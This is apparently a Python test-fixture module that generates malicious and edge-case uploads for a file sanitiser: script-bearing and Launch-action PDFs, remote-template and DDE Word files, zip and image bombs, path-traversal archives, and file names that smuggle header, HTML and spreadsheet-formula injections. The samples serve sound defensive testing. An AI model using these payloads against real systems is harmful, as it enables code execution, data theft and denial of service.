"""Files that mean harm, each made here: nothing of the kind lies in the repository."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

DOCX_TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
ODT = b"application/vnd.oasis.opendocument.text"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WHERE = b"Geheimepad 12"
"""In what a camera writes beside the image; also a mark to search for."""


@cache
def image(kind: str = "JPEG", size: tuple[int, int] = (64, 48), *, noise: bool = False) -> bytes:
    mode_bytes = size[0] * size[1] * 3
    raw = random.Random(21).randbytes(mode_bytes) if noise else bytes(mode_bytes)
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x010E], exif[0x0110], exif[0x0112] = WHERE.decode(), "Telefoon", 6
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 38.0, 24.0), 3: "E", 4: (5.0, 3.0, 36.0)})
    Image.frombytes("RGB", size, raw).save(out, kind, exif=exif)
    return out.getvalue()


def archive(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as target:
        for name, content in entries.items():
            target.writestr(name, content)
    return out.getvalue()


def word(**more: bytes) -> bytes:
    entries = {
        "[Content_Types].xml": DOCX_TYPES,
        "word/document.xml": b"<w:document>Tekst</w:document>",
        "docProps/core.xml": b"<creator>" + WHERE + b"</creator>",
    }
    return archive(entries | {name.replace("__", "/").replace("_dot_", "."): raw for name, raw in more.items()})


def content(inside: bytes) -> bytes:
    urn = b'xmlns:%b="urn:oasis:names:tc:opendocument:xmlns:%b:1.0"'
    spaces = b" ".join(urn % (name, name) for name in (b"office", b"text", b"drawing"))
    return b'<office:document-content xmlns:xlink="http://www.w3.org/1999/xlink" %b>%b</office:document-content>' % (
        spaces, inside,
    )  # fmt: skip


def image_at(address: bytes) -> bytes:
    return odt(content_dot_xml=content(b'<drawing:image xlink:href="%b"/>' % address))


def relation(inside: bytes, space: bytes = b"") -> bytes:
    """A Word file with one relation of its document."""
    of = b"http://schemas.openxmlformats.org/package/2006/relationships"
    return word(
        word___rels__document_dot_xml_dot_rels=b'<%bRelationships xmlns%b="%b"><%bRelationship %b/></%bRelationships>'
        % (space and space + b":", space and b":" + space, of, space and space + b":", inside, space and space + b":")
    )


def odt(**more: bytes) -> bytes:
    entries = {"mimetype": ODT, "content.xml": content(b""), "meta.xml": b"<a>" + WHERE + b"</a>"}
    return archive(entries | {name.replace("__", "/").replace("_dot_", "."): raw for name, raw in more.items()})


def pdf(change: Callable[[pikepdf.Pdf], object] = lambda found: None, **options: Any) -> bytes:
    found, out = pikepdf.new(), io.BytesIO()
    found.add_blank_page()
    found.docinfo["/Author"] = WHERE.decode()
    change(found)
    found.save(out, **options)
    return out.getvalue()


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _root(**values: object) -> Callable[[pikepdf.Pdf], object]:
    def change(found: pikepdf.Pdf) -> None:
        for key, value in values.items():
            found.Root[f"/{key}"] = value

    return change


def _annotation(**values: Any) -> Callable[[pikepdf.Pdf], object]:
    def change(found: pikepdf.Pdf) -> None:
        found.pages[0].Annots = Array([found.make_indirect(Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **values))])

    return change


def _attached(found: pikepdf.Pdf) -> None:
    found.attachments["x.exe"] = b"MZ"


def _deep(found: pikepdf.Pdf) -> None:
    inner = Dictionary(S=Name.JavaScript)
    for _ in range(80):
        inner = Dictionary(Next=inner)
    found.Root.OpenAction = inner


def escaped_names() -> bytes:
    """/J#61vaScript is /JavaScript to every reader."""
    return pdf(_root(OpenAction=_script()), object_stream_mode=pikepdf.ObjectStreamMode.disable).replace(
        b"/JavaScript", b"/J#61vaScript"
    )


def png_bomb(width: int, height: int) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(2_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def zip_bomb() -> bytes:
    return word(word__media__big_dot_emf=bytes(150 * 1024 * 1024))


def nested_zip() -> bytes:
    inner = archive({"a": bytes(10_000_000)})
    return archive({"mimetype": ODT, "content.xml": b"<a/>", "Pictures/a.zip": inner})


@cache
def refused() -> dict[str, bytes]:
    """Name as sent → bytes, of what must not come in."""
    jpeg, script = image(), _script()
    return {
        "leeg.jpg": b"",
        "svg als png.png": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "plaatje.svg": b'<?xml version="1.0"?><svg onload="alert(1)"/>',
        "pagina als png.png": b"<!doctype html><script>alert(1)</script>",
        "pagina.html": b"<html><body onload=alert(1)>",
        "pagina als pdf.pdf": b"<html>%PDF-1.7</html>",
        "script.js": b"alert(1)",
        "programma.jpg": b"MZ\x90\x00" + bytes(200),
        "elf.pdf": b"\x7fELF" + bytes(200),
        "eicar.pdf": EICAR,
        "eicar.zip": archive({"eicar.com": EICAR}),
        "gif met script.gif": b"GIF89a/*" + bytes(50) + b"*/=1;alert(1)",
        "foto.heic": b"\x00\x00\x00\x18ftypheic" + bytes(200),
        "foto.avif": b"\x00\x00\x00\x18ftypavif" + bytes(200),
        "film.mp4": b"\x00\x00\x00\x18ftypmp42" + bytes(200),
        "film.webm": b"\x1aE\xdf\xa3" + bytes(200),
        "mail.eml": b"From: a@b.example\r\nSubject: x\r\n\r\ntekst",
        "oude word.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
        "rtf.docx": b"{\\rtf1\\object}",
        "halve foto.jpg": jpeg[: len(jpeg) // 3],
        "alleen een kop.png": b"\x89PNG\r\n\x1a\n",
        "kapotte webp.webp": b"RIFF\x10\x00\x00\x00WEBPVP8 ",
        "beeldbom.png": png_bomb(100_000, 100_000),
        "beeldbom 2.png": png_bomb(30_000, 1_000),
        "tiff.jpg": b"II*\x00" + bytes(100),
        "ico.png": b"\x00\x00\x01\x00" + bytes(100),
        "postscript.pdf": b"%!PS-Adobe-3.0",
        "bij openen script.pdf": pdf(_root(OpenAction=script)),
        "script in stroom.pdf": pdf(
            _root(OpenAction=script), object_stream_mode=pikepdf.ObjectStreamMode.generate
        ),
        "verhulde namen.pdf": escaped_names(),
        "programma starten.pdf": pdf(_root(OpenAction=Dictionary(S=Name.Launch, F=String("cmd.exe")))),
        "scripts bij naam.pdf": pdf(
            _root(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script]))))
        ),
        "bij sluiten.pdf": pdf(_root(AA=Dictionary(WC=script))),
        "knop.pdf": pdf(_annotation(Subtype=Name.Link, A=script)),
        "verstuurt formulier.pdf": pdf(
            _annotation(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("http://x.example")))
        ),
        "ander bestand.pdf": pdf(_annotation(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("\\\\x\\a")))),
        "rijke media.pdf": pdf(_annotation(Subtype=Name.RichMedia)),
        "film erin.pdf": pdf(_annotation(Subtype=Name.Screen)),
        "bijlage erin.pdf": pdf(_attached),
        "xfa.pdf": pdf(_root(AcroForm=Dictionary(XFA=String("<xdp/>")))),
        "diep.pdf": pdf(_deep),
        "wachtwoord.pdf": pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
        "zonder wachtwoord versleuteld.pdf": pdf(encryption=pikepdf.Encryption(owner="a", user="")),
        "geen bladzijden.pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>",
        "rommel.pdf": b"%PDF-1.7\n" + random.Random(3).randbytes(3000),
        "macro.docx": word(word__vbaProject_dot_bin=b"x"),
        "macro in odt.odt": odt(Basic__Standard__Module1_dot_xml=b"<a/>"),
        "python in odt.odt": odt(Scripts__python__x_dot_py=b"print(1)"),
        "activex.docx": word(word__activeX__a_dot_xml=b"<a/>"),
        "ingesloten.docx": word(word__embeddings__oleObject1_dot_xml=b"x"),
        "sjabloon van elders.docx": word(
            word___rels__settings_dot_xml_dot_rels=b'<Relationship Type="x/attachedTemplate" '
            b'Target="http://x.example/a.dotm" TargetMode="External"/>'
        ),
        "plaatje van elders.docx": word(
            word___rels__document_dot_xml_dot_rels=b'<Relationship Type="x/image" Target="http://x.example/a" '
            b'TargetMode="External"/>'
        ),
        "sjabloon met hyperlink in het adres.docx": relation(
            b'Type="x/attachedTemplate" Target="https://x.example/hyperlink/t.dotm" TargetMode="External"'
        ),
        "relatie met voorvoegsel.docx": relation(
            b'Type="x/attachedTemplate" Target="https://x.example/t.dotm" TargetMode="External"', b"r"
        ),
        "verhulde relatie.docx": relation(
            b'Type="x/attachedTemplate" Target="https://x.example/t.dotm" TargetMode="&#69;xternal"'
        ),
        "kapotte relaties.docx": word(word___rels__document_dot_xml_dot_rels=b"<Relationships><Relationship"),
        "plaatje van elders.odt": image_at(b"http://x.example/a.png"),
        "verhuld plaatje van elders.odt": image_at(b"&#104;ttps://x.example/a.png"),
        "plaatje van een schijf.odt": image_at(b"file:///etc/hostname"),
        "plaatje van een andere computer.odt": image_at(b"//x.example/a.png"),
        "deel van elders.odt": odt(content_dot_xml=content(b'<text:section-source xlink:href="../../geheim.odt"/>')),
        "dde.docx": word(word__header1_dot_xml=b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"),
        "miljard keer lachen.docx": word(word__styles_dot_xml=b'<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>'),
        "utf-16.docx": word(word__styles_dot_xml="<!DOCTYPE a>".encode("utf-16")),
        "gebeurtenis.odt": odt(styles_dot_xml=b'<script:event-listener xlink:href="vnd.sun.star.script:a"/>'),
        "pad omhoog.docx": word(**{"word/../../../etc/cron.d/x": b"x"}),
        "vast pad.odt": odt(**{"/etc/passwd": b"x"}),
        "zipbom.docx": zip_bomb(),
        "zip in zip.odt": nested_zip(),
        "duizenden.docx": word(**{f"word/a{number}.xml": b"<a/>" for number in range(3200)}),
        "kapotte foto erin.docx": word(word__media__a_dot_jpg=b"\xff\xd8\xff" + bytes(40)),
        "gewone zip.docx": archive({"a.txt": b"a"}),
        "halve zip.docx": word()[:120],
        "te groot.jpg": b"\xff\xd8\xff" + bytes(50 * 1024 * 1024),
    }  # fmt: skip


def neutralised() -> dict[str, bytes]:
    """What comes in without its sting: the mark of each must be gone."""
    tail = b"PK\x03\x04<script>alert(1)</script>" + WHERE
    return {
        "foto.jpg": image(),
        "foto.png": image("PNG"),
        "foto.webp": image("WEBP"),
        "foto en zip.jpg": image() + archive({"a.txt": WHERE}, zipfile.ZIP_STORED),
        "foto en pagina.png": image("PNG") + tail,
        "commentaar.jpg": image()[:2] + b"\xff\xfe" + struct.pack(">H", 2 + len(tail)) + tail + image()[2:],
        "pdf en pagina.pdf": pdf() + tail,
        "gemaakt door.pdf": pdf(),
        "gemaakt door.docx": word(word__media__a_dot_jpg=image()),
        "gemaakt door.odt": odt(),
        "verwijzing.docx": relation(b'Type="x/hyperlink" Target="https://x.example/" TargetMode="External"'),
        "verwijzing.odt": odt(content_dot_xml=content(b'<text:a xlink:href="https://x.example/">hier</text:a>')),
        "plaatje.odt": odt(
            Pictures__a_dot_jpg=image(), content_dot_xml=content(b'<drawing:image xlink:href="Pictures/a.jpg"/>')
        ),
        "../../etc/passwd.jpg": image(),
        "a" * 296 + ".jpg": image(),
        "factuur\u202egpj.exe.png": image("PNG"),
        "regel\r\nSet-Cookie: a=b.jpg": image(),
        "<img src=x onerror=alert(1)>.jpg": image(),
        "=cmd|' /C calc'!A0.jpg": image(),
        "verkeerde naam.exe": image(),
        "foto zonder ending": image(),
    }  # fmt: skip
